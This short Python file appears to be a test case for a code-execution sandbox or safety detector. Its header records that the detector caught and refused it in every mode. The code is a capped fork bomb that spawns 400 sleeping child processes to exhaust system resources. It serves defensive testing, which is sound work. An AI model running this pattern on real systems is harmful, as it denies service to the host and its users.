# attack: forks without end (to 400 here)
# group: proposer
# sandboxed: detected (refused)
# restricted: detected (refused)
# unprotected: detected (refused)
from prepare import *

for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
